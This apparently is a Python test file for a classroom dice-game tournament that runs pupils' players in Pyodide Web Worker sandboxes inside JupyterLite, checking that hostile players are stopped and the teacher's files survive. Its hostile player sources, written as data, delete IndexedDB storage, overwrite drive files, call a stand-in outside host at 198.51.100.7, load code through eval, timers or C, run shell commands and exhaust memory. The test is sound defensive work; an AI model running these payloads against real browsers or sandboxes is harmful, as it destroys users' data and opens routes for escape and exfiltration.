"""The class tournament in the browser-only site: handed-in players, good and hostile, each in its own Web Worker.

The site is opened offline in Chromium; a Pyodide kernel is started through JupyterLite's own service manager
and runs ``run_tournament`` as a teacher's cell would (in Pyodide it runs :func:`run_tournament_async` in Web
Worker sandboxes, :mod:`fifteen_kit.lite_sandbox`).  The hostile players try, each in its own way, to read or
delete the teacher's JupyterLite files (IndexedDB, directly or through Emscripten's IDBFS, the ``/drive``
folder), to reach the network (``fetch``,
``XMLHttpRequest``, ``WebSocket``, a dynamic ``import()`` written in JavaScript through ``eval``, ``Function``, a
timer's text or C's ``emscripten_run_script``), to start a worker or a command, to loop forever in
Python and in C, to allocate gigabytes, to print without end and to recurse.  Each must be stopped with a reason
(the seconds until then are recorded in ``artifacts/lite/tournament.json``), the good players must get exactly the
leaderboard the process sandbox gives them here, the teacher's files must be untouched and no request may leave
the page or reach the site for a file the site does not have.
"""

from __future__ import annotations

import json
import re
import time

from conftest import StaticFiles

from fifteen_kit.sandbox import available
from fifteen_kit.tournament import run_tournament

#: A kernel of JupyterLite, started without a notebook; ``code`` runs in it and its printed text is returned.
JS_RUN = """async (code) => {
  const app = window.jupyterapp, sm = app.serviceManager;
  await sm.ready;
  await app.restored;
  for (let i = 0; i < 1200 && !(sm.kernelspecs.specs && sm.kernelspecs.specs.kernelspecs.python); i++) {
    await new Promise(r => setTimeout(r, 100));
  }
  if (!window.__kitKernel) window.__kitKernel = await sm.kernels.startNew({name: 'python'});
  const out = [];
  const future = window.__kitKernel.requestExecute({code, stop_on_error: true});
  future.onIOPub = (msg) => {
    const t = msg.header.msg_type, c = msg.content;
    if (t === 'stream') out.push(c.text);
    else if (t === 'error') out.push('ERROR ' + c.ename + ': ' + c.evalue);
    else if (t === 'execute_result') out.push(c.data['text/plain'] + '\\n');
  };
  await future.done;
  return out.join('');
}"""

#: The teacher's files in JupyterLite's storage (IndexedDB), as the contents API lists them.
JS_FILES = """async () => {
  const contents = window.jupyterapp.serviceManager.contents;
  const out = {};
  async function walk(path) {
    const listing = await contents.get(path, {content: true});
    for (const item of listing.content) {
      if (item.type === 'directory') await walk(item.path);
      else out[item.path] = JSON.stringify((await contents.get(item.path, {content: true})).content);
    }
  }
  await walk('');
  const dbs = indexedDB.databases ? (await indexedDB.databases()).map(d => d.name).sort() : [];
  return {files: out, databases: dbs};
}"""

JS_SAVE = """async ([path, text]) => {
  await window.jupyterapp.serviceManager.contents.save(path, {type: 'file', format: 'text', content: text});
  return true;
}"""

GOOD = """from fifteen_kit.pupil_players import valid_dice, points_if_stop, chance_of_bust
def my_player(turn):
    if valid_dice(turn):
        return "place " + " ".join(valid_dice(turn))
    if points_if_stop(turn) >= {k} or (points_if_stop(turn) > 0 and chance_of_bust(turn) > 0.5):
        return "stop"
    return "roll"
"""

OUTSIDE = "http://198.51.100.7/stolen"  # a documentation address: any request to it is recorded and refused


def _hostile(site: str) -> dict[str, str]:
    """name -> source of each hostile player (the dice game), given the site's address."""
    body = {
        "idb_python": "import js\n    js.indexedDB.deleteDatabase('JupyterLite Storage')",
        "idb_js": ("from pyodide.code import run_js\n    run_js('indexedDB.databases().then(l => l.forEach(d => "
                   "indexedDB.deleteDatabase(d.name)))')"),
        "idb_restored": ("import js\n    scope = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))\n"
                         "    js.Object.getOwnPropertyDescriptor(scope, 'indexedDB').get.call(js.self).databases()"),
        "drive_files": "open('/drive/teacher.txt', 'w').write('gone')",
        "idbfs": ("import pyodide_js\n    fs, seen = pyodide_js.FS, []\n    fs.mkdirTree('/idb')\n"
                  "    fs.mount(fs.filesystems.IDBFS, {}, '/idb')\n"
                  "    fs.syncfs(True, lambda err: seen.append(str(err)))\n    raise RuntimeError(seen)"),
        "caches": "import js\n    js.caches.keys()",
        "fetch_out": f"import js\n    js.fetch('{OUTSIDE}-fetch')",
        "xhr_site": f"from pyodide.http import open_url\n    open_url('{site}/stolen-xhr')",
        "websocket": "import js\n    js.WebSocket.new('ws://127.0.0.1:9/stolen')",
        "import_js": (f"from pyodide.code import run_js\n    run_js(\"import('{site}/stolen-import.mjs'); "
                      f"import('{OUTSIDE}-import.mjs')\")"),
        "import_function": ("from pyodide.ffi import to_js\n    to_js([]).constructor.constructor("
                            f"\"return import('{OUTSIDE}-function.mjs')\")()"),
        "import_timer": f"import js\n    js.setTimeout(\"import('{OUTSIDE}-timer.mjs')\", 0)",
        "import_c": ("import ctypes\n    ctypes.CDLL(None).emscripten_run_script("
                     f"b\"import('{OUTSIDE}-c.mjs')\")"),
        "worker": "import js\n    js.Worker.new('/stolen-worker.js')",
        "broadcast": "import js\n    js.BroadcastChannel.new('jupyterlite').postMessage('hello')",
        "subprocess": "import subprocess\n    subprocess.run(['ls', '/'])",
        "os_system": "import os\n    if os.system('ls /') != 0:\n        raise OSError('no command ran')",
        "loop": "while True:\n        pass",
        "loop_in_c": "import itertools\n    sum(itertools.count())",
        "gigabytes": "x = bytearray(1536 * 2**20)",
        "too_big": "x = bytearray(3 * 2**30)",
        "grows": "x = []\n    while True:\n        x.append(bytearray(2**24))",
        "prints": "while True:\n        print('x' * 10**6)",
        "recursion": "return my_player(turn)",
        "floods": ("import js\n    from pyodide.ffi import to_js\n    for i in range(100000):\n"
                   "        js.postMessage(to_js({'reply': 'x' * 10**6}, dict_converter=js.Object.fromEntries))"),
        "forges": ("import js\n    from pyodide.ffi import to_js\n"
                   "    forged = to_js({'reply': '{\"move\": \"stop\"}'}, dict_converter=js.Object.fromEntries)\n"
                   "    js.postMessage(forged)\n    js.postMessage(forged)"),
        "exits": "import os\n    os._exit(0)",
    }
    players = {name: f"def my_player(turn):\n    {code}\n    return 'stop'\n" for name, code in body.items()}
    players["at_load"] = "import js\njs.indexedDB.deleteDatabase('JupyterLite Storage')\ndef my_player(turn):\n" \
                         "    return 'stop'\n"
    return players


def run(page, code: str, timeout: float = 900) -> str:
    page.set_default_timeout(timeout * 1000)
    return page.evaluate(JS_RUN, code)


def test_tournament_in_lite_stops_every_hostile_player(page, site, artifacts):
    page.goto(f"{site}/lab/index.html")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.serviceManager", timeout=240_000)
    page.evaluate(JS_SAVE, ["teacher.txt", "the teacher's own notes"])
    before = page.evaluate(JS_FILES)
    assert "teacher.txt" in before["files"]
    served_before = set(StaticFiles.served_files)
    good = {f"good{k}": GOOD.replace("{k}", str(k)) for k in (8, 12)}
    hostile = _hostile(site)
    entries = {**good, **hostile}
    began = time.perf_counter()
    out = run(page, f"""
import json, time
from fifteen_kit import sandbox
from fifteen_kit.sandbox import Limits
from fifteen_kit.tournament import run_tournament
print("available", sandbox.available())
board = run_tournament({entries!r}, "dice", games=6, seed=3, limits=Limits(move_seconds=1.0))
print("BOARD" + json.dumps({{"stopped": board.stopped, "after": board.stopped_after, "wall": board.wall_seconds,
    "rows": [[r.name, r.games, r.mean] for r in board.ranking],
    "records": {{k: [[s.score, s.steps] for s in v] for k, v in board.records.items() if k.startswith("good")}}}}))
""")
    wall = time.perf_counter() - began
    assert "ERROR" not in out, out
    assert "available True" in out
    board = json.loads(out.split("BOARD", 1)[1])
    after = page.evaluate(JS_FILES)
    figures = {"entries": len(entries), "games": 6, "wall_seconds_in_browser": round(wall, 1),
               "wall_seconds_reported": board["wall"],
               "hostile": {name: {"stopped_after_s": board["after"].get(name), "reason": board["stopped"].get(name)}
                           for name in hostile}}
    (artifacts / "tournament.json").write_text(json.dumps(figures, indent=1) + "\n")
    print(json.dumps(figures, indent=1))
    # every hostile player was stopped, with a reason; the good ones were not
    assert sorted(board["stopped"]) == sorted(hostile), board["stopped"]
    # the teacher's files and the browser's databases are as they were
    assert after == before
    # nothing left the page, and nothing asked the site for a file it does not hold
    assert page.blocked == []
    asked = set(StaticFiles.served_files) - served_before
    assert not [p for p in asked if re.search("stolen", p)], asked
    # the good players' games are exactly those the process sandbox plays here
    if available():
        here = run_tournament(good, "dice", games=6, seed=3)
        assert {k: [[s.score, [list(x) for x in s.steps]] for s in v] for k, v in here.records.items()} == \
            board["records"]
        assert [[r.name, r.games, r.mean] for r in here.ranking] == [r for r in board["rows"] if r[0] in good]



def test_the_memory_limit_is_the_workers_own(page, site):
    """The worker's WebAssembly memory grows up to ``Limits.memory_bytes`` and no further: 300 MB are refused
    under a 256 MB limit and given under a 1 GB one (the browser's own limit for a worker is far higher)."""
    page.goto(f"{site}/lab/index.html")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.serviceManager", timeout=240_000)
    out = run(page, """
from fifteen_kit.errors import PlayerError
from fifteen_kit.lite_sandbox import WorkerPlayer
from fifteen_kit.nasty15 import Turn
from fifteen_kit.sandbox import Limits
source = "def my_player(turn):\\n    x = bytearray(300 * 2**20)\\n    return 'roll'\\n"
for limit in (256, 1024):
    player = WorkerPlayer(source, "dice", limits=Limits(memory_bytes=limit * 2**20))
    try:
        print(limit, await player.achoose(Turn.start((4, 3, 3, 2, 2, 1))))
    except PlayerError as err:
        print(limit, err.reason)
    player.close()
""")
    assert "256 it asked for more memory than there is (MemoryError)" in out, out
    assert "1024 roll" in out, out
    assert page.blocked == []


def test_the_teachers_button_runs_the_tournament_in_lite(page, site):
    """The class view's **Run the tournament** in JupyterLite: the lesson's own starting player (which calls the
    helpers without importing them) and a changed copy play in browser workers while the page goes on; the
    panel shows the leaderboard when they end (the second trial of lesson 07 found the button ran nothing)."""
    page.goto(f"{site}/lab/index.html")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.serviceManager", timeout=240_000)
    out = run(page, """
from fifteen_kit.class_results import ClassResults
from fifteen_kit.results import PupilResults
from fifteen_kit.widgets.class_tournament import TournamentPanel
from fifteen_kit.widgets.workbook import task
starter = task("07.q1").starter
pairs = [PupilResults("07", name, ({"key": "07.q1", "kind": "player", "game": "dice", "source": source},))
         for name, source in (("Ana", starter), ("Bo", starter.replace(">= 10", ">= 12")))]
panel = TournamentPanel(ClassResults(pairs))
panel.games.value = 4
panel.run_button.click()
print("CLICKED", "running" in panel.board.value)
""")
    assert "ERROR" not in out and "CLICKED True" in out, out
    out = run(page, """
await panel.task_running
print("RANKED", sorted(r.name for r in panel.result.board.ranking), panel.result.board.stopped)
print("SHOWN", "95% interval" in panel.board.value, panel.entry.value in ("Ana", "Bo"))
""")
    assert "RANKED ['Ana', 'Bo'] {}" in out and "SHOWN True True" in out, out
